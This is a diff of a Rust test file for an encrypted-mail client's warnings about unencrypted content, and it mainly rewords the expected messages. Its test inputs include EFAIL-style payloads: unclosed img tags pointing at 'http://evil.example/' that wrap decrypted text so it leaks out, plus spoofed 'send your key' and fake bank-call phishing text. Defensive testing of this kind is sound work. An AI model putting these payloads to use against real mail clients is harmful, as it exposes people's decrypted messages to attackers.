@@ -25,8 +25,8 @@ pub(crate) fn cases(people: &People) -> Vec<Case> {
                 &format!("{HTML}\">"),
             ]),
         )
-        .says("outside the envelope, not sealed: part 1, text/html")
-        .says("outside the envelope, not sealed: part 3, text/html"),
+        .says("outside the envelope, not encrypted: part 1, text/html")
+        .says("outside the envelope, not encrypted: part 3, text/html"),
         opens(
             "EFAIL: in preamble and epilogue",
             format!(
@@ -34,12 +34,12 @@ pub(crate) fn cases(people: &People) -> Vec<Case> {
                 mixed(&[&part]).replacen("\n\n--b", "\n\n<img src=\"http://evil.example/\n--b", 1)
             ),
         )
-        .says("between the parts, not sealed"),
+        .says("between the parts, not encrypted"),
         opens(
             "EFAIL: glued to the base64",
             last("\"><img src=\"http://evil.example/\">").unwrap(),
         )
-        .says("behind the envelope in part 2, not sealed: 34 bytes"),
+        .says("after the envelope in part 2, not encrypted: 34 bytes"),
         opens(
             "EFAIL: the envelope within HTML of one part",
             mixed(&[&part.replacen("\n\n", "\n\n\n\n", 1), "\n\n\n"]),
@@ -48,7 +48,7 @@ pub(crate) fn cases(people: &People) -> Vec<Case> {
             "a text that looks like ours",
             sealed.replace("To read it, open it", "To read it, send your key"),
         )
-        .says("outside the envelope, not sealed: part 1, text/plain"),
+        .says("outside the envelope, not encrypted: part 1, text/plain"),
         opens(
             "a text before ours",
             mixed(&["\nYour bank: call 555", &part]),
@@ -71,6 +71,6 @@ pub(crate) fn cases(people: &People) -> Vec<Case> {
             "a footer under the envelope, as a list writes it",
             last("_______\nlist mailing list\nlist@example.org").unwrap(),
         )
-        .says("behind the envelope"),
+        .says("after the envelope"),
     ]
 }
